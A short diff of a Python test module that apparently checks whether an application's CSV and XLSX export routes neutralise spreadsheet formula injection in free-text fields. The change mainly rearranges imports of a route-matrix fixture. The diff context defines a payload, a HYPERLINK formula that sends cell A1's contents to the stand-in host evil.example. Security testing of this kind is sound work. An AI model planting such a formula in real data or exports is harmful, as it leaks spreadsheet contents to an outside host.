@@ -10,11 +10,13 @@ from sqlalchemy import String, Text, cast, literal, update
 
 from fangkong.core.db import Base
 from fangkong.core.export import looks_like_formula
-from tests.web.test_route_matrix import MATRIX, _concrete, ids  # noqa: F401  (the fixture)
+from tests.web import test_route_matrix as matrix
+from tests.web.test_route_matrix import MATRIX, _concrete
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 FREE_TEXT = {"name", "display_name", "note", "notes", "address", "current_address", "reason", "remark",
              "detail_text", "place", "description", "title", "comment"}
+ids = matrix.ids  # the route matrix's fixture: the concrete ids of its paths
 EXPORTS = sorted((path, allowed) for (method, template), (path, allowed) in MATRIX.items()
                  if method == "GET" and template.endswith((".xlsx", ".csv")))
 
